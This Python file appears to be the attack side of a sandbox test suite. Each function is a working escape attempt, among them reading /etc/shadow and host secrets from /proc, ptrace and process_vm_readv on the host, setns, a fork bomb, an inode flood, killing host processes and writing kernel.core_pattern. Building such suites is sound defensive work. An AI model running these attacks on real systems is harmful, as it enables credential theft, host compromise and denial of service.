"""Hostile programs for the sandbox attack suite: each function is one attack, written as real
Python (ctypes for raw syscalls, x86_64 numbers). The whole file runs inside the sandbox as
``main.py`` with a footer ``P = {...}; ATTACKS[name](P)``; an attack that gets through prints a
line starting ``ESCAPED:``, and every attack ends by printing ``ATTACK-DONE`` (so a sandbox that
failed to start the program is not mistaken for one that stopped it).

``P`` carries what the host prepared: its pid, secrets, listeners, paths (see sandbox_bait.py).
"""

import ctypes
import errno
import os
import socket
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

# x86_64 syscall numbers
NR = dict(ptrace=101, chroot=161, mount=165, umount2=166, init_module=175, delete_module=176,
          kexec_load=246, add_key=248, keyctl=250, unshare=272, name_to_handle_at=303,
          open_by_handle_at=304, setns=308, process_vm_readv=310, finit_module=313,
          kexec_file_load=320, bpf=321, io_uring_setup=425, fsopen=430, clone=56)
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
MS_REMOUNT, MS_BIND, MNT_DETACH = 32, 4096, 2


def _arg(a):
    if a is None:
        return ctypes.c_void_p(0)
    if isinstance(a, bytes):
        return ctypes.c_char_p(a)
    if isinstance(a, int):
        return ctypes.c_long(a)
    return a  # already a ctypes object (pointer, byref)


def sc(name, *args):
    """Raw syscall: (return value, errno)."""
    ctypes.set_errno(0)
    ret = libc.syscall(ctypes.c_long(NR[name]), *map(_arg, args))
    return ret, ctypes.get_errno()


def escaped(what):
    print("ESCAPED:", what, flush=True)


def note(what, err=0):
    print("stopped:" if err else "note:", what, errno.errorcode.get(err, err) if err else "", flush=True)


def read(path, n=1 << 20, mode="rb"):
    try:
        with open(path, mode) as f:
            return f.read(n)
    except OSError:
        return None


def try_umount_proc():
    ret, err = sc("umount2", b"/proc", MNT_DETACH)
    if ret == 0:
        escaped("umount2(/proc) succeeded")
    return ret == 0


def mount_points():
    text = read("/proc/self/mountinfo", mode="r") or ""
    return [line.split()[4] for line in text.splitlines()]


# --- the attacks -------------------------------------------------------------------------

def remount_root(P):
    for point in ["/"] + mount_points():
        ret, err = sc("mount", None, point.encode(), None, MS_REMOUNT | MS_BIND, None)
        if ret == 0:
            escaped(f"remounted {point} writable")
    for path in (P["host_file"], "/usr/tf-attack", "/etc/tf-attack"):
        try:
            with open(path, "w") as f:
                f.write("written from the sandbox")
            escaped(f"wrote {path}")
        except OSError as e:
            note(f"write {path}", e.errno)


def umount_proc(P):
    try_umount_proc()
    pids = [d for d in os.listdir("/proc") if d.isdigit()] if os.path.isdir("/proc") else []
    if len(pids) > 30:
        escaped(f"/proc shows {len(pids)} processes")
    cmd = read(f"/proc/{P['host_pid']}/cmdline") or b""
    if P["host_marker"].encode() in cmd:
        escaped("the host's process is visible in /proc")


def parent_environ(P):
    try_umount_proc()
    for entry in set(os.listdir("/proc") if os.path.isdir("/proc") else []) | {str(P["host_pid"])}:
        data = read(f"/proc/{entry}/environ")
        if data and P["secret"].encode() in data:
            escaped(f"secret read from /proc/{entry}/environ")
    if P["secret"] in str(dict(os.environ)):
        escaped("secret in the program's own environment")


def parent_mem(P):
    try_umount_proc()
    for pid in (P["host_pid"], os.getppid()):
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.seek(P["secret_addr"])
                if P["secret"].encode() in f.read(len(P["secret"])):
                    escaped(f"parent heap read through /proc/{pid}/mem")
        except (OSError, ValueError, OverflowError) as e:
            note(f"/proc/{pid}/mem", getattr(e, "errno", 0) or 1)


def setns_host(P):
    try_umount_proc()
    for pid in (P["host_pid"], 1):
        for ns, flag in (("net", CLONE_NEWNET), ("mnt", CLONE_NEWNS)):
            try:
                fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
            except OSError as e:
                note(f"open /proc/{pid}/ns/{ns}", e.errno)
                continue
            ret, err = sc("setns", fd, flag)
            if ret == 0:
                escaped(f"setns into /proc/{pid}/ns/{ns}")
            else:
                note(f"setns {ns}", err)
    _tcp(P, "127.0.0.1")
    if read(P["tmp_secret_file"]):
        escaped("read the host /tmp after setns")


def _tcp(P, host):
    try:
        s = socket.create_connection((host, P["tcp_port"]), timeout=1.0)
        s.sendall(b"leak")
        escaped(f"TCP connect to {host}:{P['tcp_port']}")
        s.close()
    except OSError as e:
        note(f"connect {host}", e.errno or 1)


def host_unix_socket(P):
    for address in (P["unix_path"], "\0" + P["abstract_name"]):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.settimeout(1.0)
            s.connect(address)
            s.sendall(b"leak")
            escaped(f"connected to unix socket {address!r}")
        except OSError as e:
            note(f"unix connect {address!r}", e.errno or 1)
        finally:
            s.close()


def tcp_loopback(P):
    _tcp(P, "127.0.0.1")
    if P.get("host_ip"):
        _tcp(P, P["host_ip"])


def read_shadow(P):
    data = read("/etc/shadow")
    if data and b"root:" in data:
        escaped("read /etc/shadow")


def read_project(P):
    if read(P["project_file"]):
        escaped(f"read {P['project_file']}")
    try:
        escaped(f"listed the project folder: {os.listdir(P['project_dir'])[:5]}")
    except OSError as e:
        note("list project", e.errno)


def read_host_tmp(P):
    data = read(P["tmp_secret_file"])
    if data and P["secret"].encode() in data:
        escaped("read a file in the host's /tmp")
    try:
        if P["tmp_marker"] in os.listdir("/tmp"):
            escaped("the host's /tmp is visible")
    except OSError:
        pass


def inode_flood(P):
    # Up to 178,000 files (what the review made in 2.5 s); it stops itself after 8 s so that a
    # slow disk still lets it report. Past the work dir's inode quota is an escape.
    n, start = 0, time.monotonic()
    try:
        while n < 178_000 and time.monotonic() - start < 8:
            os.close(os.open(f"f{n}", os.O_CREAT | os.O_WRONLY, 0o600))
            n += 1
    except OSError as e:
        note(f"after {n} files", e.errno)
    print("files", n)
    if n > P["inode_quota"]:
        escaped(f"created {n} files, quota {P['inode_quota']}")


def many_files_over_size(P):
    total, chunk = 0, b"x" * (1 << 20)
    for i in range(12):
        try:
            with open(f"big{i}", "wb") as f:
                for _ in range(P["file_mb"]):
                    f.write(chunk)
                    total += len(chunk)
        except OSError as e:
            note(f"file {i}", e.errno)
            break
    print("bytes", total)
    if total > P["quota_bytes"]:
        escaped(f"wrote {total >> 20} MB, quota {P['quota_bytes'] >> 20} MB")


def ptrace_parent(P):
    PTRACE_ATTACH = 16
    for pid in (os.getppid(), 1, P["host_pid"]):
        ret, err = sc("ptrace", PTRACE_ATTACH, pid, None, None)
        if ret == 0:
            escaped(f"ptrace attached to {pid}")
        else:
            note(f"ptrace {pid}", err)


def process_vm_readv(P):
    n = len(P["secret"])
    buf = ctypes.create_string_buffer(n)

    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    local, remote = iovec(ctypes.addressof(buf), n), iovec(P["secret_addr"], n)
    for pid in (P["host_pid"], os.getppid()):
        ret, err = sc("process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if ret > 0 and P["secret"].encode() in buf.raw:
            escaped(f"process_vm_readv read the host's heap ({pid})")
        elif ret >= 0:
            escaped(f"process_vm_readv allowed on {pid}")
        else:
            note(f"process_vm_readv {pid}", err)


def new_namespaces(P):
    for flags, what in ((CLONE_NEWUSER, "user"), (CLONE_NEWNS, "mount"), (CLONE_NEWNET, "net")):
        pid = os.fork()
        if pid == 0:  # unshare in a child, so that this process keeps testing
            ret, _ = sc("unshare", flags)
            os._exit(0 if ret == 0 else 1)
        _, status = os.waitpid(pid, 0)
        if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
            escaped(f"unshare({what}) succeeded")
    SIGCHLD = 17
    ret, err = sc("clone", CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)
    if ret == 0:
        libc.syscall(ctypes.c_long(60), ctypes.c_long(0))  # raw exit in the raw child
    if ret > 0:
        os.waitpid(ret, 0)
        escaped("clone(CLONE_NEWUSER) succeeded")
    else:
        note("clone(CLONE_NEWUSER)", err)


def bpf(P):
    attr = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(112))  # ARRAY map
    ret, err = sc("bpf", 0, attr, len(attr))  # BPF_MAP_CREATE
    if ret >= 0:
        escaped("bpf(BPF_MAP_CREATE) succeeded")
    else:
        note("bpf", err)


def keyctl(P):
    KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, KEY_SPEC_PROCESS_KEYRING = 0, -4, -2
    ret, err = sc("keyctl", KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0)
    if ret >= 0:
        escaped(f"keyctl reached the user keyring ({ret})")
    ret, err = sc("add_key", b"user", b"tf-attack", b"x", 1, KEY_SPEC_PROCESS_KEYRING)
    if ret >= 0:
        escaped("add_key succeeded")
    else:
        note("add_key", err)


def fork_bomb(P):
    children = 0
    try:
        while children < 400:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            children += 1
    except OSError as e:
        note(f"after {children} forks", e.errno)
    if children > 2 * P["processes"]:
        escaped(f"{children} processes at once")


def write_outside(P):
    for path in (P["host_file"], "/usr/tf-attack", "/etc/tf-attack", "/var/tmp/tf-attack",
                 f"/tmp/{P['tmp_marker']}/written"):
        try:
            with open(path, "w") as f:
                f.write("x")
            note(f"wrote {path} (host checks it)")
        except OSError as e:
            note(f"write {path}", e.errno)


def dev_shm(P):
    data = read(f"/dev/shm/{P['shm_name']}")
    if data and P["secret"].encode() in data:
        escaped("read the host's /dev/shm")
    try:
        with open(f"/dev/shm/{P['shm_name']}-w", "w") as f:
            f.write("x")
    except OSError as e:
        note("write /dev/shm", e.errno)
    try:
        from multiprocessing import shared_memory
        shared_memory.SharedMemory(create=True, size=4096)  # left for the host check
    except Exception as e:  # noqa: BLE001 - any failure stops this attack
        note(f"shared_memory: {type(e).__name__}", 1)


def kill_host(P):
    for pid in (P["decoy_pid"], P["host_pid"]):
        sig = 9 if pid == P["decoy_pid"] else 0  # signal 0: only asks whether it could
        try:
            os.kill(pid, sig)
            escaped(f"signalled host pid {pid}")
        except OSError as e:
            note(f"kill {pid}", e.errno)
    try:
        os.kill(os.getppid(), 9)
    except OSError as e:
        note("kill parent", e.errno)


def chroot_escape(P):
    try:
        os.mkdir("jail")
        os.chroot("jail")
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
        note("chroot worked (escape checked below)")
    except OSError as e:
        note("chroot", e.errno)
    if read(P["tmp_secret_file"]) or read("/etc/shadow"):
        escaped("host files readable after chroot games")


def proc_1_root(P):
    for pid in (1, P["host_pid"], "self"):
        for path in (P["tmp_secret_file"], "/etc/shadow", P["project_file"]):
            if read(f"/proc/{pid}/root{path}"):
                escaped(f"read /proc/{pid}/root{path}")


def capabilities(P):
    status = dict(line.split(":\t", 1) for line in (read("/proc/self/status", mode="r") or "").splitlines()
                  if ":\t" in line)
    print("status", {k: status.get(k, "?").strip() for k in ("Uid", "CapEff", "CapBnd", "NoNewPrivs", "Seccomp")})
    if int(status.get("CapEff", "0"), 16) or int(status.get("CapBnd", "0"), 16):
        escaped(f"capabilities held: CapEff {status.get('CapEff')}")
    if status.get("NoNewPrivs", "").strip() != "1":
        escaped("no_new_privs is off")
    if status.get("Seccomp", "").strip() != "2":
        escaped("no seccomp filter")
    if os.getuid() == 0 or os.geteuid() == 0:
        escaped("runs as uid 0")


def open_by_handle(P):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    ret, err = sc("name_to_handle_at", -100, b"/", handle, ctypes.byref(mount_id), 0)
    if ret != 0:
        note("name_to_handle_at", err)
    fd = os.open("/", os.O_RDONLY)
    ret, err = sc("open_by_handle_at", fd, handle, os.O_RDONLY)
    if ret >= 0:
        escaped("open_by_handle_at opened a file by handle")
    else:
        note("open_by_handle_at", err)


def modules_and_kexec(P):
    # Arguments are invalid on purpose: past the privilege check the kernel rejects them, so
    # any errno but EPERM/ENOSYS means the gate was open (and nothing is loaded).
    calls = {"init_module": (None, 0, b""), "finit_module": (-1, b"", 0),
             "delete_module": (b"tf_no_such_module", 0), "kexec_load": (0, 0, None, 0xFFFF0000),
             "kexec_file_load": (-1, -1, 0, None, 0xFFFFFFFF)}
    for name, args in calls.items():
        ret, err = sc(name, *args)
        if ret == 0 or err not in (errno.EPERM, errno.ENOSYS):
            escaped(f"{name} passed the privilege check ({errno.errorcode.get(err, err)})")
        else:
            note(name, err)


def new_mount_api(P):
    ret, err = sc("fsopen", b"tmpfs", 0)
    if ret >= 0:
        escaped("fsopen(tmpfs) succeeded")
    else:
        note("fsopen", err)


def io_uring(P):
    params = ctypes.create_string_buffer(120)
    ret, err = sc("io_uring_setup", 1, params)
    if ret >= 0:
        escaped("io_uring_setup succeeded (a channel around seccomp)")
    else:
        note("io_uring_setup", err)


def raw_block_device(P):
    names = os.listdir("/sys/block") if os.path.isdir("/sys/block") else []
    for dev in set(names) | {P["root_device"]}:
        data = read(f"/dev/{dev}", 512)
        if data:
            escaped(f"read raw device /dev/{dev}")
    if read("/dev/kmsg", 1):
        escaped("read the kernel log")


def proc_sys_write(P):
    path = "/proc/sys/kernel/core_pattern"
    value = read(path)
    if value is None:
        return note("read core_pattern", 1)
    try:
        with open(path, "wb") as f:
            f.write(value)  # the same value: proves the write, changes nothing
        escaped("wrote a global sysctl (kernel.core_pattern)")
    except OSError as e:
        note("write core_pattern", e.errno)


def cgroup_escape(P):
    root = "/sys/fs/cgroup/pids"
    sc("mount", None, root.encode(), None, MS_REMOUNT | MS_BIND, None)
    for group in (root, "/sys/fs/cgroup"):
        try:
            with open(f"{group}/cgroup.procs", "w") as f:
                f.write(str(os.getpid()))
            escaped(f"moved itself into {group}")
        except OSError as e:
            note(f"cgroup {group}", e.errno)


ATTACKS = {name: fn for name, fn in dict(globals()).items()
           if callable(fn) and not name.startswith("_") and getattr(fn, "__module__", None) == __name__
           and name not in ("sc", "escaped", "note", "read", "try_umount_proc", "mount_points")}
